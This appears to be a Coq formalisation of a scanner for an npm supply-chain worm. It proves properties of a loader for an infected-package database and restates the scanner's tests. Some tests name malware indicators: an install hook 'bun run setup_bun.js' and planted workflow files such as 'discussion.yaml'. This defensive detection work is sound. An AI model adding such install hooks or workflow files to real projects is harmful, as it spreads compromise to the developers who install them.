  unfold Set_has. rewrite existsb_app. cbn.
  now rewrite String.eqb_refl, orb_true_r.
Qed.

Lemma Set_has_add_keeps (versions : VersionSet) (v w : string) :
  Set_has versions w = true -> Set_has (Set_add versions v) w = true.
Proof.
  intros H. unfold Set_add. destruct (Set_has versions v); [exact H|].
  unfold Set_has in *. now rewrite existsb_app, H.
Qed.

Lemma addPackage_get_same (db : IOCDatabase) (name version : string) :
  Map_get (addPackage db name version) name
  = Some (Set_add match Map_get db name with
                  | Some versions => versions
                  | None => []
                  end version).
Proof.
  unfold addPackage, Map_has.
  destruct (Map_get db name) as [versions|] eqn:E.
  - rewrite E. apply Map_get_set_same.
  - rewrite Map_get_set_same. apply Map_get_set_same.
Qed.

Lemma addPackage_get_other (db : IOCDatabase) (name version other : string) :
  other <> name ->
  Map_get (addPackage db name version) other = Map_get db other.
Proof.
  intros Hne. unfold addPackage, Map_has.
  destruct (Map_get db name) as [versions|] eqn:E.
  - rewrite E. now apply Map_get_set_other.
  - rewrite Map_get_set_same. now rewrite !Map_get_set_other.
Qed.

Lemma contains_added (db : IOCDatabase) (name version : string) :
  contains (addPackage db name version) name version.
Proof.
  unfold contains, Map_has. rewrite addPackage_get_same. split; [reflexivity|].
  eexists. split; [reflexivity|]. apply Set_has_add_same.
Qed.

Lemma contains_kept (db : IOCDatabase) (name version name' version' : string) :
  contains db name version ->
  contains (addPackage db name' version') name version.
Proof.
  intros [_ [versions [Hget Hhas]]]. unfold contains, Map_has.
  destruct (String.eqb_spec name name') as [->|Hne].
  - rewrite addPackage_get_same, Hget. split; [reflexivity|].
    eexists. split; [reflexivity|]. now apply Set_has_add_keeps.
  - rewrite addPackage_get_other, Hget by exact Hne. split; [reflexivity|].
    now exists versions.
Qed.

Lemma contains_fold (rows : list Row) (db : IOCDatabase)
    (name version : string) :
  contains db name version
  \/ (exists r, In r rows /\ r_name r = name /\ r_version r = version) ->
  contains
    (fold_left (fun db r => addPackage db (r_name r) (r_version r)) rows db)
    name version.
Proof.
  revert db. induction rows as [|r rows IH]; intros db H; cbn [fold_left].
  - destruct H as [H|[r [[] _]]]. exact H.
  - apply IH. destruct H as [H|[r' [[<-|Hin] [Hn Hv]]]].
    + left. now apply contains_kept.
    + left. subst. apply contains_added.
    + right. now exists r'.
Qed.

(** Whatever a line does, it removes nothing from the map. *)
Lemma loadLine_keeps (st : bool * IOCDatabase) (line name version : string) :
  contains (snd st) name version ->
  contains (snd (loadLine st line)) name version.
Proof.
  destruct st as [inTable db]. cbn [snd]. intros H. unfold loadLine.
  repeat match goal with
         | |- context [if ?b then _ else _] => destruct b
         end; cbn [snd]; auto using contains_kept.
Qed.

Lemma loadLines_keep (lines : list string) (st : bool * IOCDatabase)
    (name version : string) :
  contains (snd st) name version ->
  contains (snd (fold_left loadLine lines st)) name version.
Proof.
  revert st. induction lines as [|l lines IH]; intros st H; [exact H|].
  cbn [fold_left]. now apply IH, loadLine_keeps.
Qed.

Lemma fold_rows (render : Row -> string) (inTable : bool)
    (rows : list Row) :
  (forall r db, cleanRow r = true ->
     loadLine (inTable, db) (render r)
     = (inTable, addPackage db (r_name r) (r_version r))) ->
  forallb cleanRow rows = true ->
  forall db,
    fold_left loadLine (map render rows) (inTable, db)
    = (inTable,
       fold_left (fun db r => addPackage db (r_name r) (r_version r)) rows db).
Proof.
  intros Hrender. induction rows as [|r rows IH]; intros Hrows db;
    [reflexivity|].
  cbn [forallb] in Hrows. apply andb_true_iff in Hrows as [Hr Hrows].
  cbn [map fold_left]. rewrite Hrender by exact Hr. now apply IH.
Qed.

Lemma lacks_LF_tableRow (r : Row) :
  cleanRow r = true -> lacks LFCHAR (tableRow r) = true.
Proof.
  intros Hr. apply row_cells_plain in Hr. unfold tableRow.
  rewrite lacks_app. cbn [andb lacks allChars].
  change (allChars (fun a => negb (Ascii.eqb a LFCHAR)) "|") with true.
  apply lacks_tableCells; try reflexivity.
  eapply Forall_impl; [|exact Hr]. intros c Hc.
  now apply plainCell_facts in Hc.
Qed.

Lemma lacks_LF_tsvRow (r : Row) :
  cleanRow r = true -> lacks LFCHAR (tsvRow r) = true.
Proof.
  intros Hr. apply row_cells_plain in Hr. unfold tsvRow.
  inversion Hr as [|? ? Hname Hrest]; subst. rewrite lacks_app.
  apply plainCell_facts in Hname as [_ [_ ->]]. cbn [andb].
  apply lacks_tabbed; [reflexivity|].
  eapply Forall_impl; [|exact Hrest]. intros c Hc.
  now apply plainCell_facts in Hc.
Qed.

Lemma loadLine_header (st : bool * IOCDatabase) (line : string) :
  includes line "| Package" || includes line "|---" = true ->
  loadLine st line = (true, snd st).
Proof. intros H. destruct st. unfold loadLine. now rewrite H. Qed.

Lemma loadContent_table (header separator : string) (rows : list Row) :
  includes header "| Package" || includes header "|---" = true ->
  includes separator "| Package" || includes separator "|---" = true ->
  lacks LFCHAR header = true -> lacks LFCHAR separator = true ->
  forallb cleanRow rows = true ->
  loadContent (renderTable header separator rows) = databaseOf rows.
Proof.
  intros Hh Hs Hhl Hsl Hrows. unfold loadContent, renderTable.
  rewrite split_join_lines; [|discriminate|].
  - unfold loadLines. cbn [fold_left].
    rewrite (loadLine_header _ header Hh), (loadLine_header _ separator Hs).
    rewrite (fold_rows tableRow true); [reflexivity | | exact Hrows].
    intros r db. apply loadLine_tableRow.
  - repeat constructor; auto. apply Forall_forall. intros l Hl.
    apply in_map_iff in Hl as [r [<- Hr]]. apply lacks_LF_tableRow.
    revert r Hr. now apply forallb_forall.
Qed.

Lemma loadContent_tsv (rows : list Row) :
  forallb cleanRow rows = true ->
  loadContent (renderTsv rows) = databaseOf rows.
Proof.
  intros Hrows. unfold loadContent, renderTsv.
  destruct rows as [|r rows]; [reflexivity|].
  rewrite split_join_lines; [|discriminate|].
  - unfold loadLines.
    rewrite (fold_rows tsvRow false); [reflexivity | | exact Hrows].
    intros r' db. apply loadLine_tsvRow.
  - apply Forall_forall. intros l Hl.
    apply in_map_iff in Hl as [r' [<- Hr]]. apply lacks_LF_tsvRow.
    revert r' Hr. now apply forallb_forall.
Qed.

(** C4, counterexample: the row [MyPackage 1.0.0] is dropped by the table
    reader, whose header guard rejects names containing [Package], and
    kept by the tab-separated reader, so the two renderings of the same
    entry load to different databases. *)
Lemma load_formats_differ_on_Package :
  let rows := [mkRow "MyPackage" "1.0.0" []] in
  loadContent (renderTable "| Package | Version |" "|---------|---------|" rows)
  = []
  /\ loadContent (renderTsv rows) = [("MyPackage", ["1.0.0"])]
  /\ loadContent
       (renderTable "| Package | Version |" "|---------|---------|" rows)
     <> loadContent (renderTsv rows).
Proof. repeat split. discriminate. Qed.

(** C4, amended: take rows whose names and versions are not empty, do not
    begin or end with whitespace and, like the further cells, contain no
    [|], tab or line feed, whose names do not contain [Package] and whose
    other cells do not begin with it.  Their rendering as a Markdown table
    (a header line and a separator line that contain [| Package] or
    [|---], then one line per row) and their tab-separated rendering load
    to the same database, the one obtained by adding the rows in order;
    it has every name as a key, with the version in its set.  An empty
    source loads to the empty database, and loading it is not an
    error. *)
Theorem load_formats_agree (header separator : string) (rows : list Row)
    (Hheader : includes header "| Package" || includes header "|---" = true)
    (Hseparator :
       includes separator "| Package" || includes separator "|---" = true)
    (HheaderLine : lacks LFCHAR header = true)
    (HseparatorLine : lacks LFCHAR separator = true)
    (Hrows : forallb cleanRow rows = true) :
  loadContent (renderTable header separator rows)
  = loadContent (renderTsv rows)
  /\ loadContent (renderTable header separator rows) = databaseOf rows
  /\ (forall r, In r rows ->
        contains (loadContent (renderTable header separator rows))
          (r_name r) (r_version r))
  /\ loadContent "" = []
  /\ (forall readFileSync wormFile,
        readFileSync wormFile = Ok "" ->
        loadInfectedPackages readFileSync wormFile = Ok []).
Proof.
  pose proof (loadContent_table header separator rows Hheader Hseparator
                HheaderLine HseparatorLine Hrows) as Htable.
  pose proof (loadContent_tsv rows Hrows) as Htsv.
  split; [congruence|]. split; [exact Htable|]. split; [|split].
  - intros r Hr. rewrite Htable. apply contains_fold. right. now exists r.
  - reflexivity.
  - intros readFileSync wormFile H. unfold loadInfectedPackages.
    now rewrite H.
Qed.

Lemma load_formats_agree_witness :
  let rows :=
    [mkRow "bad-package" "1.0.0" ["offline"];
     mkRow "@scope/pkg" "2.0.0" ["offline"];
     mkRow "bad-package" "1.0.1" []] in
  loadContent
    (renderTable "| Package | Version | Status |"
       "|---------|---------|--------|" rows)
  = loadContent (renderTsv rows).
Proof.
  apply (load_formats_agree "| Package | Version | Status |"
           "|---------|---------|--------|"
           [mkRow "bad-package" "1.0.0" ["offline"];
            mkRow "@scope/pkg" "2.0.0" ["offline"];
            mkRow "bad-package" "1.0.1" []]
           eq_refl eq_refl eq_refl eq_refl eq_refl).
Defined.

(** C5, counterexample: in table mode a line that starts with [|] is
    read as a table row even though it contains a tab; its tab-separated
    fields [| a] and [b | 1.0 |] are not inserted. *)
Lemma tab_line_read_as_table_row :
  let line := "| a" ++ TAB ++ "b | 1.0 |" in
  includes line TAB = true
  /\ split line TAB = ["| a"; "b | 1.0 |"]
  /\ loadLines ["|---|---|"; line] = [("a" ++ TAB ++ "b", ["1.0"])]
  /\ Map_has (loadLines ["|---|---|"; line]) "| a" = false.
Proof. repeat split. Qed.

(** C5, amended: a line with a tab that is neither a header or separator
    line nor, in table mode, a line starting with [|] is trimmed and split
    on tabs, in table mode or not.  When this gives at least two fields
    and the first two, trimmed, are not empty, they are inserted as name
    and version and remain in the database that is returned; otherwise
    the line changes nothing. *)
Theorem tab_line_loaded (pre post : list string) (line : string)
    (Hplain : includes line "| Package" || includes line "|---" = false)
    (Hnotrow :
       fst (fold_left loadLine pre (false, [])) && startsWith line "|" = false)
    (Htab : includes line TAB = true) :
  let st := fold_left loadLine pre (false, []) in
  let parts := split (trim line) TAB in
  let name := trim (nth 0 parts "") in
  let version := trim (nth 1 parts "") in
  (2 <= List.length parts -> name <> "" -> version <> "" ->
   loadLine st line = (fst st, addPackage (snd st) name version)
   /\ contains (loadLines (pre ++ line :: post)) name version)
  /\ (List.length parts < 2 \/ name = "" \/ version = "" ->
      loadLine st line = st).
Proof.
  intros st parts name version. fold st in Hnotrow.
  assert (Hstep : loadLine st line
                  = if (2 <=? List.length parts)%nat
                    then if nonEmpty name && nonEmpty version
                         then (fst st, addPackage (snd st) name version)
                         else st
                    else st).
  { destruct st as [inTable db]. cbn [fst snd] in *. unfold loadLine.
    now rewrite Hplain, Hnotrow, Htab. }
  split.
  - intros Hlen Hname Hversion.
    apply Nat.leb_le in Hlen. rewrite Hlen in Hstep.
    assert (En : nonEmpty name = true)
      by (destruct name; [contradiction | reflexivity]).
    assert (Ev : nonEmpty version = true)
      by (destruct version; [contradiction | reflexivity]).
    rewrite En, Ev in Hstep. split; [exact Hstep|].
    unfold loadLines. rewrite fold_left_app. cbn [fold_left]. fold st.
    rewrite Hstep. apply loadLines_keep. cbn [snd]. apply contains_added.
  - intros [Hlen|[Hname|Hversion]]; rewrite Hstep.
    + apply Nat.leb_gt in Hlen. now rewrite Hlen.
    + rewrite Hname. now destruct (2 <=? List.length parts)%nat.
    + rewrite Hversion, andb_false_r.
      now destruct (2 <=? List.length parts)%nat.
Qed.

Lemma tab_line_loaded_witness :
  contains
    (loadLines
       ["| Package | Version |"; "|---------|---------|";
        "| bad-package | 1.0.0 |";
        "another-pkg" ++ TAB ++ " 3.0.0 " ++ TAB ++ "offline"])
    "another-pkg" "3.0.0".
Proof.
  apply (proj1 (tab_line_loaded
                  ["| Package | Version |"; "|---------|---------|";
                   "| bad-package | 1.0.0 |"]
                  []
                  ("another-pkg" ++ TAB ++ " 3.0.0 " ++ TAB ++ "offline")
                  eq_refl eq_refl eq_refl));
    [vm_compute; lia | discriminate | discriminate].
Defined.

(** ** The tests of the repository, run on the model *)

Example test_loader_table :
  loadContent
    (join LF [""; "| Package | Version | Status |";
              "|---------|---------|--------|";
              "| bad-package | 1.0.0 | offline |";
              "| @scope/pkg | 2.0.0 | offline |"; ""])
  = [("bad-package", ["1.0.0"]); ("@scope/pkg", ["2.0.0"])].
Proof. reflexivity. Qed.

Example test_loader_tab_separated :
  loadContent
    (join LF [""; "bad-package" ++ TAB ++ "1.0.0" ++ TAB ++ "offline";
              "another-pkg" ++ TAB ++ "3.0.0" ++ TAB ++ "offline"; ""])
  = [("bad-package", ["1.0.0"]); ("another-pkg", ["3.0.0"])].
Proof. reflexivity. Qed.

Example test_loader_versions :
  getPackageStats
    (loadContent
       (join LF [""; "| Package | Version | Status |";
                 "|---------|---------|--------|";
                 "| bad-package | 1.0.0 | offline |";
                 "| bad-package | 1.0.1 | offline |";
                 "| bad-package | 2.0.0 | offline |"; ""]))
  = (1, 3).
Proof. reflexivity. Qed.

Example test_scanner_hidden :
  findPackageFiles posix_join "/tmp/t"
    (Some [Directory ".hidden" (Some [File "package.json" true]);
           Directory ".github" (Some [File "package.json" true])])
  = [mkCandidate package_json "/tmp/t/.github/package.json"].
Proof. reflexivity. Qed.

Example test_scanner_workflow :
  findMaliciousArtifacts posix_join "/tmp/t"
    (Some [Directory ".github"
             (Some [Directory "workflows"
                      (Some [File "formatter_12345.yml" true])])])
  = [mkHit "suspicious_workflow"
       "/tmp/t/.github/workflows/formatter_12345.yml"].
Proof. reflexivity. Qed.

Example test_scanner_discussion :
  findMaliciousArtifacts posix_join "/tmp/t"
    (Some [Directory ".github"
             (Some [Directory "workflows"
                      (Some [File "discussion.yaml" true])])])
  = [mkHit ".github/workflows/discussion.yaml"
       "/tmp/t/.github/workflows/discussion.yaml"].
Proof. reflexivity. Qed.

Example test_scanner_postman :
  findMaliciousArtifacts posix_join "/tmp/t"
    (Some [File "Sandbox.postman_environment.json" true;
           File "localhost Environment.postman_environment.json" true;
           File "my-config.environment.json" true])
  = []
  /\ findMaliciousArtifacts posix_join "/tmp/t"
       (Some [File "environment.json" true])
     = [mkHit "environment.json" "/tmp/t/environment.json"].
Proof. split; reflexivity. Qed.

Example test_analyzer_scripts :
  checkPackageJson (fun _ => Ok "{ ... }")
    (fun _ =>
       Ok (JObject [("name", JString "test-project");
                    ("scripts",
                     JObject [("postinstall",
                               JString "bun run setup_bun.js")])]))
    "/tmp/t/package.json" [] (mkOptions false)
  = Ok [suspiciousScript "postinstall" (JString "bun run setup_bun.js")
          "/tmp/t/package.json"].
Proof. reflexivity. Qed.

Example test_analyzer_lockfile :
  checkPackageLock (fun _ => Ok "{ ... }")
    (fun _ =>
       Ok (JObject
             [("lockfileVersion", JNumber 2);
              ("packages",
               JObject
                 [("", JObject [("name", JString "test")]);
                  ("node_modules/@scope/infected",
                   JObject [("version", JString "2.0.0")])])]))
    "/tmp/t/package-lock.json" [("@scope/infected", ["2.0.0"])]
    (mkOptions false)
  = Ok [infectedLockedPackage "@scope/infected" "2.0.0"
          "/tmp/t/package-lock.json"].
Proof. reflexivity. Qed.

Example test_analyzer_lockfile_v1 :
  checkPackageLock (fun _ => Ok "{ ... }")
    (fun _ =>
       Ok (JObject
             [("lockfileVersion", JNumber 1);
              ("dependencies",
               JObject
                 [("a",
                   JObject
                     [("version", JString "1.0.0");
                      ("dependencies",
                       JObject
                         [("infected-pkg",
                           JObject [("version", JString "1.0.0")])])])])]))
    "/tmp/t/package-lock.json" [("infected-pkg", ["1.0.0"])]
    (mkOptions false)
  = Ok [infectedLockedPackage "infected-pkg" "1.0.0"
          "/tmp/t/package-lock.json"].
Proof. reflexivity. Qed.

Example test_installed_scoped :
  checkNodeModules (fun _ => Ok "{ ... }")
    (fun _ => Ok (JObject [("version", JString "2.0.0")]))
    (fun _ => true) posix_join
    (fun p =>
       if String.eqb p "/tmp/t/node_modules"
       then Ok [("@scope", true); (".bin", true); ("README.md", false)]
       else if String.eqb p "/tmp/t/node_modules/@scope"
       then Ok [("infected", true)]
       else Throw "ENOENT")
    "/tmp/t/node_modules" [("@scope/infected", ["2.0.0"])] (mkOptions false)
  = Ok [installedInfectedPackage "@scope/infected" "2.0.0"
          "/tmp/t/node_modules/@scope/infected"].
Proof. reflexivity. Qed.

(** * Further properties *)

(** ** The database as a map of sets *)

Lemma Set_has_In (versions : VersionSet) (v : string) :
  Set_has versions v = true <-> In v versions.
Proof.
  unfold Set_has. rewrite existsb_exists. split.
  - intros [x [Hx E]]. apply String.eqb_eq in E. now subst.
  - intros H. exists v. split; [exact H | apply String.eqb_refl].
Qed.

Lemma Set_has_add (versions : VersionSet) (v w : string) :
  Set_has (Set_add versions v) w = true <->
  Set_has versions w = true \/ w = v.
Proof.
  rewrite !Set_has_In. unfold Set_add.
  destruct (Set_has versions v) eqn:E.
  - apply Set_has_In in E. split; [now left | intros [H| ->]; assumption].
  - rewrite in_app_iff. cbn. intuition.
Qed.

Lemma Map_has_In (m : IOCDatabase) (k : string) :
  Map_has m k = true <-> In k (map fst m).
Proof.
  unfold Map_has. induction m as [|[k' v'] m IH]; cbn.
  - split; [discriminate | contradiction].
  - destruct (String.eqb_spec k' k) as [->|Hne].
    + split; auto.
    + rewrite IH. split; [now right | intros [E|H]; [contradiction | exact H]].
Qed.

Lemma Map_get_In (m : IOCDatabase) (k : string) (v : VersionSet) :
  Map_get m k = Some v -> In (k, v) m.
Proof.
  induction m as [|[k' v'] m IH]; cbn; [discriminate|].
  destruct (String.eqb_spec k' k) as [->|_].
  - intros [= ->]. now left.
  - intros H. right. now apply IH.
Qed.

Lemma Map_set_twice (m : IOCDatabase) (k : string) (v w : VersionSet) :
  Map_set (Map_set m k v) k w = Map_set m k w.
Proof.
  induction m as [|[k' v'] m IH]; cbn.
  - now rewrite String.eqb_refl.
  - destruct (String.eqb_spec k' k) as [->|Hne]; cbn.
    + now rewrite String.eqb_refl.
    + apply String.eqb_neq in Hne. now rewrite Hne, IH.
Qed.

Lemma Map_set_keys (m : IOCDatabase) (k : string) (v : VersionSet) :
  map fst (Map_set m k v)
  = if Map_has m k then map fst m else (map fst m ++ [k])%list.
Proof.
  unfold Map_has. induction m as [|[k' v'] m IH]; cbn; [reflexivity|].
  destruct (String.eqb_spec k' k) as [->|Hne]; cbn; [reflexivity|].
  rewrite IH. now destruct (Map_get m k).
Qed.

Lemma Map_set_Forall (P : string * VersionSet -> Prop) (m : IOCDatabase)
    (k : string) (v : VersionSet) :
  Forall P m -> P (k, v) -> Forall P (Map_set m k v).
Proof.
  intros Hm Hk. induction Hm as [|[k' v'] m Hp Hrest IH]; cbn.
  - now constructor.
  - destruct (String.eqb k' k); constructor; auto.
Qed.

(** [addPackage] as one update of the map. *)
Lemma addPackage_update (db : IOCDatabase) (name version : string) :
  addPackage db name version
  = Map_set db name
      (Set_add match Map_get db name with
               | Some versions => versions
               | None => []
               end version).
Proof.
  unfold addPackage, Map_has.
  destruct (Map_get db name) as [versions|] eqn:E.
  - now rewrite E.
  - now rewrite Map_get_set_same, Map_set_twice.
Qed.

(** X1: [addPackage] adds the pair and nothing else: afterwards the
    database contains a pair exactly when it contained it before or it is
    the pair added. *)
Theorem addPackage_contains (db : IOCDatabase)
    (name version name' version' : string) :
  contains (addPackage db name version) name' version'
  <-> contains db name' version' \/ (name' = name /\ version' = version).
Proof.
  split.
  - intros [_ [versions [Hget Hhas]]].
    destruct (String.eqb_spec name' name) as [->|Hne].
    + rewrite addPackage_get_same in Hget. injection Hget as <-.
      apply Set_has_add in Hhas as [Hhas| ->]; [|now right].
      left. unfold contains, Map_has.
      destruct (Map_get db name) as [old|]; [|discriminate Hhas].
      split; [reflexivity|]. now exists old.
    + rewrite addPackage_get_other in Hget by exact Hne.
      left. unfold contains, Map_has. rewrite Hget.
      split; [reflexivity|]. now exists versions.
  - intros [H|[-> ->]]; [now apply contains_kept | apply contains_added].
Qed.

(** X2: adding a pair a second time changes nothing, so duplicate lines
    of the database file collapse. *)
Theorem addPackage_idempotent (db : IOCDatabase) (name version : string) :
  addPackage (addPackage db name version) name version
  = addPackage db name version.
Proof.
  rewrite (addPackage_update (addPackage db name version)).
  rewrite addPackage_get_same. rewrite (addPackage_update db).
  rewrite Map_set_twice. f_equal.
  unfold Set_add at 1. now rewrite Set_has_add_same.
Qed.

Lemma Set_add_invariant (versions : VersionSet) (v : string) :
  v <> "" -> NoDup versions -> Forall (fun w => w <> "") versions ->
  Set_add versions v <> [] /\ NoDup (Set_add versions v)
  /\ Forall (fun w => w <> "") (Set_add versions v).
Proof.
  intros Hv Hnd Hall. unfold Set_add.
  destruct (Set_has versions v) eqn:E.
  - apply Set_has_In in E. repeat split; auto. intros ->. destruct E.
  - repeat split.
    + now destruct versions.
    + apply NoDup_app; auto.
      * repeat constructor. intros [].
      * intros x Hx [<-|[]]. apply Set_has_In in Hx. congruence.
    + apply Forall_app. split; [exact Hall | now repeat constructor].
Qed.

Lemma addPackage_invariant (db : IOCDatabase) (name version : string) :
  name <> "" -> version <> "" ->
  databaseInvariant db -> databaseInvariant (addPackage db name version).
Proof.
  intros Hn Hv [Hkeys Hentries]. rewrite addPackage_update. split.
  - rewrite Map_set_keys. destruct (Map_has db name) eqn:E; [exact Hkeys|].
    apply NoDup_app; auto.
    + repeat constructor. intros [].
    + intros x Hx [<-|[]]. apply Map_has_In in Hx. congruence.
  - apply Map_set_Forall; [exact Hentries|].
    assert (Hold : NoDup match Map_get db name with
                         | Some versions => versions
                         | None => []
                         end
                   /\ Forall (fun w => w <> "")
                        match Map_get db name with
                        | Some versions => versions
                        | None => []
                        end).
    { destruct (Map_get db name) as [versions|] eqn:E.
      - apply Map_get_In in E. rewrite Forall_forall in Hentries.
        destruct (Hentries _ E) as [_ [_ [H1 H2]]]. now split.
      - split; constructor. }
    destruct Hold as [H1 H2].
    destruct (Set_add_invariant _ version Hv H1 H2) as [A [B C]].
    unfold entryInvariant. cbn [fst snd]. auto.
Qed.

Lemma nonEmpty_true (s : string) : nonEmpty s = true -> s <> "".
Proof. destruct s; [discriminate | discriminate]. Qed.

Lemma loadLine_invariant (st : bool * IOCDatabase) (line : string) :
  databaseInvariant (snd st) -> databaseInvariant (snd (loadLine st line)).
Proof.
  destruct st as [inTable db]. cbn [snd]. intros H. unfold loadLine.
  repeat match goal with
         | |- context [if ?b then _ else _] => destruct b eqn:?
         end; cbn [snd]; auto;
    repeat match goal with
           | E : _ && _ = true |- _ => apply andb_true_iff in E as [? ?]
           end;
    apply addPackage_invariant; auto using nonEmpty_true.
Qed.

Lemma loadLines_invariant (lines : list string) :
  forall st,
    databaseInvariant (snd st) ->
    databaseInvariant (snd (fold_left loadLine lines st)).
Proof.
  induction lines as [|l lines IH]; intros st Hst; [exact Hst|].
  cbn [fold_left]. now apply IH, loadLine_invariant.
Qed.

(** X3: whatever the file holds, the database loaded from it has distinct,
    non-empty names, each with a version set that is not empty and has
    neither a duplicate nor an empty version. *)
Theorem loadContent_invariant (content : string) :
  databaseInvariant (loadContent content).
Proof.
  unfold loadContent, loadLines.
  apply loadLines_invariant. split; constructor.
Qed.

Lemma fold_left_total (db : IOCDatabase) (start : nat) :
  fold_left (fun total kv => total + List.length (snd kv))%nat db start
  = (start + list_sum (map (fun kv => List.length (snd kv)) db))%nat.
Proof.
  unfold list_sum. revert start.
  induction db as [|kv db IH]; intros start; cbn [fold_left map fold_right].
  - lia.
  - rewrite IH. lia.
Qed.

Lemma versions_at_least_packages (db : IOCDatabase) :
  Forall entryInvariant db ->
  (List.length db <= list_sum (map (fun kv => List.length (snd kv)) db))%nat
  /\ (list_sum (map (fun kv => List.length (snd kv)) db) = 0%nat -> db = []).
Proof.
  unfold list_sum.
  induction 1 as [|[k vs] db [_ [Hne _]] _ [IH1 IH2]].
  - split; [apply Nat.le_refl | reflexivity].
  - cbn [map fold_right List.length snd] in *.
    destruct vs as [|v vs]; [contradiction|]. cbn [List.length].
    split; [lia | intros H; lia].
Qed.

(** X4: in the statistics of a loaded database there are at least as many
    versions as packages, and no version only if the database is
    empty. *)
Theorem getPackageStats_loaded (content : string) :
  let stats := getPackageStats (loadContent content) in
  (fst stats <= snd stats)%nat
  /\ (snd stats = 0%nat -> loadContent content = []).
Proof.
  assert (Hloaded : databaseInvariant (loadContent content))
    by (apply loadLines_invariant; split; constructor).
  destruct Hloaded as [_ Hentries].
  cbn zeta. unfold getPackageStats. cbn [fst snd].
  rewrite fold_left_total. cbn [Nat.add].
  now apply versions_at_least_packages.
Qed.

Lemma addPackage_contains_witness :
  contains (addPackage [("a", ["1.0.0"])] "b" "2.0.0") "a" "1.0.0".
Proof.
  apply (proj2 (addPackage_contains [("a", ["1.0.0"])] "b" "2.0.0"
                  "a" "1.0.0")).
  left. split; [reflexivity|]. exists ["1.0.0"]. split; reflexivity.
Defined.

Lemma getPackageStats_loaded_witness : loadContent "" = [].
Proof. apply (proj2 (getPackageStats_loaded "")). reflexivity. Defined.

(** ** Lines of the database file *)

Lemma loadLine_inert (db : IOCDatabase) (line : string) :
  inertLine line = true -> loadLine (false, db) line = (false, db).
Proof.
  unfold inertLine, loadLine. intros H.
  apply andb_true_iff in H as [Hh Ht].
  apply negb_true_iff in Hh, Ht. now rewrite Hh, Ht.
Qed.

(** X5: table rows are read only after a header or separator line.  Lines
    at the start of the file that are neither such a line nor have a tab,
    rows of a table among them, are ignored; a file made of such lines
    only loads to the empty database. *)
Theorem loadLines_before_header (inert rest : list string)
    (Hinert : forallb inertLine inert = true) :
  loadLines (inert ++ rest) = loadLines rest /\ loadLines inert = [].
Proof.
  assert (H : fold_left loadLine inert (false, []) = (false, [])).
  { induction inert as [|l inert IH]; [reflexivity|].
    cbn [forallb] in Hinert. apply andb_true_iff in Hinert as [Hl Hrest].
    cbn [fold_left]. rewrite loadLine_inert by exact Hl. now apply IH. }
  unfold loadLines. rewrite fold_left_app, H. split; reflexivity.
Qed.

Lemma loadLines_before_header_witness :
  loadLines ["# Infected packages"; ""; "| bad-package | 1.0.0 | offline |"]
  = [].
Proof.
  apply (proj2 (loadLines_before_header
                  ["# Infected packages"; "";
                   "| bad-package | 1.0.0 | offline |"] [] eq_refl)).
Defined.

(** X6: lines added at the end of the file never remove an entry: what
    the database contains for the first lines it contains for all of
    them. *)
Theorem loadLines_monotone (lines more : list string)
    (name version : string)
    (Hloaded : contains (loadLines lines) name version) :
  contains (loadLines (lines ++ more)) name version.
Proof.
  unfold loadLines in *. rewrite fold_left_app. now apply loadLines_keep.
Qed.

Lemma loadLines_monotone_witness :
  contains
    (loadLines (["a" ++ TAB ++ "1.0.0"] ++ ["|---|"; "| b | 2.0.0 |"]))
    "a" "1.0.0".
Proof.
  apply (loadLines_monotone ["a" ++ TAB ++ "1.0.0"]
           ["|---|"; "| b | 2.0.0 |"] "a" "1.0.0").
  split; [reflexivity|]. exists ["1.0.0"]. split; reflexivity.
Defined.

Lemma includes_char_false (c : ascii) (s : string) :
  includes s (String c "") = false -> lacks c s = true.
Proof.
  induction s as [|a s IH]; [reflexivity|].
  cbn [includes]. rewrite startsWith_cons, startsWith_empty, andb_true_r.
  intros H. apply orb_false_iff in H as [Ha Hs].
  unfold lacks. cbn [allChars]. rewrite Ha. cbn [negb andb]. now apply IH.
Qed.

Lemma lacks_trimStart (c : ascii) (s : string) :
  lacks c s = true -> lacks c (trimStart s) = true.
Proof.
  induction s as [|a s IH]; [reflexivity|]. intros H. cbn [trimStart].
  destruct (isWhiteSpace a); [|exact H].
  apply lacks_cons in H as [_ H]. now apply IH.
Qed.

Lemma lacks_trimEnd (c : ascii) (s : string) :
  lacks c s = true -> lacks c (trimEnd s) = true.
Proof.
  induction s as [|a s IH]; [reflexivity|]. intros H. cbn [trimEnd].
  apply lacks_cons in H as [Ha H].
  destruct (isWhiteSpace a && isEmpty (trimEnd s)); [reflexivity|].
  unfold lacks. cbn [allChars]. rewrite Ha. cbn [negb andb]. now apply IH.
Qed.

Lemma lacks_split1 (ch c : ascii) (s : string) :
  lacks ch s = true ->
  Forall (fun piece => lacks ch piece = true) (split_from (String c "") 0 s).
Proof.
  induction s as [|a s IH]; intros H; [now repeat constructor|].
  apply lacks_cons in H as [Ha Hs]. specialize (IH Hs).
  rewrite split1_cons. destruct (Ascii.eqb a c).
  - now constructor.
  - destruct (split_from (String c "") 0 s) as [|piece pieces].
    + repeat constructor. unfold lacks. cbn [allChars]. now rewrite Ha.
    + apply Forall_cons_iff in IH as [Hp Hrest]. constructor; [|exact Hrest].
      unfold lacks in *. cbn [allChars]. now rewrite Ha, Hp.
Qed.

(** Without a [|] in the line the two readers do the same. *)
Lemma loadLine_legacy (db : IOCDatabase) (line : string) :
  lacks PIPE line = true ->
  loadLine (false, db) line = (false, Legacy.loadLine db line).
Proof.
  intros Hp. unfold loadLine, Legacy.loadLine.
  change "| Package" with (String PIPE " Package").
  change "|---" with (String PIPE "---").
  rewrite !includes_lacks by exact Hp. cbn [orb andb].
  destruct (includes line TAB) eqn:Htab.
  - repeat match goal with
           | |- context [if ?b then _ else _] => destruct b
           end; reflexivity.
  - apply includes_char_false in Htab.
    assert (Hparts : split (trim line) TAB = [trim line]).
    { apply split1_whole. unfold trim.
      now apply lacks_trimEnd, lacks_trimStart. }
    rewrite Hparts. reflexivity.
Qed.

(** X7: on a file without any [|] the loader gives the database of the
    earlier tab-separated-only loader. *)
Theorem loadContent_legacy (content : string)
    (Hplain : lacks PIPE content = true) :
  loadContent content = Legacy.loadContent content.
Proof.
  unfold loadContent, Legacy.loadContent, loadLines, split, LF.
  pose proof (lacks_split1 PIPE (ascii_of_nat 10) content Hplain) as Hlines.
  assert (H : forall lines db,
             Forall (fun l => lacks PIPE l = true) lines ->
             fold_left loadLine lines (false, db)
             = (false, fold_left Legacy.loadLine lines db)).
  { induction lines as [|l lines IH]; intros db Hl; [reflexivity|].
    apply Forall_cons_iff in Hl as [Hl Hrest]. cbn [fold_left].
    rewrite loadLine_legacy by exact Hl. now apply IH. }
  now rewrite H.
Qed.

